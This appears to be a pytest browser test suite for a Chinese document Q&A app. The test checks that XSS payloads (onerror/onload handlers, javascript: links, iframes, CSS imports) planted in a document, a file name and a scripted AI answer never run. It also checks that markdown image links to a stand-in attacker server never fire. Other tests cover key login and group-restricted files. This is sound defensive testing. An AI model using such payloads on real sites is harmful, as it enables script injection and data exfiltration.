"""In a real browser: the way in, and documents and answers that mean harm."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest

from answer.engine import Answerer
from huiwen.settings import Settings
from index.library import Library
from index.sharing import Sharing
from server.audit import Audit
from server.caller import Scope
from server.keys import Keys
from tests.canary import listening
from tests.fakes import HashEmbedder, ScriptedGenerator
from tests.ui.serve import serving

HARM = '<img src=x onerror="window.hacked=1"><svg onload="window.hacked=1">${window.hacked=1}'
QUESTION = "河口市完成管网改造多少公里？"


@pytest.fixture
def elsewhere() -> Iterator[Any]:
    """The attacker's server."""
    with listening() as server:
        yield server


def test_neither_documents_nor_answers_do_anything(
    browser: Any, settings: Settings, elsewhere: Any
) -> None:
    url = elsewhere.url
    said = (
        f"河口市完成管网改造120公里{HARM}[1]。![图]({url}/inline?q=120)[链接]({url}/link)"
        f'![参考][r]\n\n[r]: {url}/reference?q=120\n<img src="{url}/html?q=120">'
        f'<iframe src="{url}/frame"></iframe><style>@import "{url}/style"</style>'
        f'<a href="javascript:window.hacked=1">点这里</a> {url}/auto [1]。'
    )
    text = f"{HARM}会议\n\n2023年，河口市完成管网改造120公里{HARM}。![图]({url}/document)\n"
    with Library(settings, HashEmbedder()) as library:
        library.add(f"upload/会议{HARM}.txt", text.encode())
        answerer = Answerer(library, ScriptedGenerator(said), settings)
        with serving(library, answerer, settings) as address:
            page = browser.new_page()
            hosts: set[str] = set()
            page.on("request", lambda request: hosts.add(urlparse(request.url).netloc))
            page.goto(address)
            page.fill("#hw-app[data-ready] #question", QUESTION)
            page.click("#ask")
            page.wait_for_selector("#chat >> text=人工智能")
            page.click("#evidence a >> nth=0")
            page.frame_locator("iframe[name=source-frame]").locator("mark").first.wait_for()
            page.get_by_role("tab", name="资料库").click()
            page.wait_for_selector("#library table >> text=onerror")
            page.goto(f"{address}/nowhere/{HARM}")
            assert page.evaluate("window.hacked") is None
            links = page.eval_on_selector_all("a", "all => all.map(one => one.href)")
            assert not [link for link in links if url in link or "javascript:" in link]
            page.close()
            assert hosts == {urlparse(address).netloc}
    assert elsewhere.asked == []


def test_the_way_in_and_what_is_seen_then(browser: Any, settings: Settings) -> None:
    settings = settings.model_copy(update={"access": "keys"})
    settings.store.mkdir(parents=True)
    with closing(Keys(settings)) as keys:
        _, office = keys.add("办公室", [Scope.ASK], ["办公室"], 0)
        _, finance = keys.add("财务", [Scope.ASK], ["财务"], 0)
    with Library(settings, HashEmbedder()) as library:
        text = "人事会议\n\n会议研究管网公司人事，总指挥拟由方启航担任。\n"
        library.add("upload/人事.txt", text.encode(), sharing=Sharing(frozenset({"办公室"})))
        library.add("upload/公开.txt", "会议\n\n2023年，河口市完成管网改造120公里。\n".encode())
        answerer = Answerer(library, ScriptedGenerator("总指挥拟由方启航担任[1]。"), settings)
        with serving(library, answerer, settings) as address:
            for secret, seen in ((office, True), (finance, False)):
                context = browser.new_context()
                page = context.new_page()
                page.goto(address)
                assert page.url == f"{address}/login"
                page.fill("#key", "hw_wrong")
                page.click("button")
                page.wait_for_selector("[role=alert]")
                page.fill("#key", secret)
                page.click("button")
                page.fill("#hw-app[data-ready] #question", "管网公司总指挥拟由谁担任？")
                page.click("#ask")
                page.wait_for_selector("#chat >> text=人工智能")
                page.get_by_role("tab", name="资料库").click()
                page.wait_for_selector("#library table >> text=公开.txt")
                assert ("人事.txt" in page.inner_text("#library")) is seen
                assert ("方启航" in page.content()) is seen
                page.click("#logout")
                page.wait_for_url(f"{address}/login")
                page.goto(address)
                assert page.url == f"{address}/login"
                context.close()


def test_a_file_is_given_to_a_group_in_the_page(
    browser: Any, settings: Settings, tmp_path: Path
) -> None:
    settings = settings.model_copy(update={"access": "keys"})
    settings.store.mkdir(parents=True)
    secrets = {}
    with closing(Keys(settings)) as keys:
        for name in ("办公室", "财务"):
            _, secrets[name] = keys.add(name, [Scope.ASK, Scope.UPLOAD], [name], 0)
    path = tmp_path / "人事.txt"
    path.write_text("人事会议\n\n会议研究管网公司人事，总指挥拟由方启航担任。\n", "utf-8")
    audit_file = tmp_path / "audit.sqlite"
    with (
        Library(settings, HashEmbedder()) as library,
        closing(Audit(audit_file, 365)) as audit,
    ):
        answerer = Answerer(library, ScriptedGenerator("总指挥拟由方启航担任[1]。"), settings)
        with serving(library, answerer, settings, audit) as address:
            for name, seen in (("办公室", True), ("财务", False)):
                context = browser.new_context()
                page = context.new_page()
                page.goto(address)
                page.fill("#key", secrets[name])
                page.click("button")
                page.wait_for_selector("#hw-app[data-ready]")
                page.get_by_role("tab", name="资料库").click()
                if name == "办公室":
                    page.set_input_files("#upload input[type=file]", path)
                    page.fill("#collection input", "人事工作")
                    page.keyboard.press("Enter")
                    page.click("#audience input")
                    offered = page.locator("#audience [role=option]").all_inner_texts()
                    assert [text.strip("✓ \n") for text in offered] == ["所有人", "办公室"]
                    page.locator("#audience [role=option]", has_text="办公室").click()
                    page.keyboard.press("Escape")
                    page.click("#add")
                    page.wait_for_selector("#report >> text=已收录")
                    page.wait_for_selector("#library >> text=人事.txt")
                    tags = page.locator("#library .hw-groups").all_inner_texts()
                    assert tags == ["人事工作", "办公室"]
                    assert page.locator("#hw-share").count() == 0
                page.wait_for_selector("#library:has-text('人事.txt')" if seen else "#count")
                assert ("人事.txt" in page.inner_text("#library")) is seen
                page.get_by_role("tab", name="问答").click()
                page.fill("#question", "管网公司总指挥拟由谁担任？")
                page.click("#ask")
                page.wait_for_selector("#ask:visible")
                page.wait_for_selector("#chat .hw-label")
                assert ("方启航" in page.inner_text("#chat")) is seen
                context.close()
        told = [json.dumps(one, ensure_ascii=False) for one in audit.records()]
    assert any("页面 收录" in one and "人事.txt" in one and "办公室" in one for one in told)
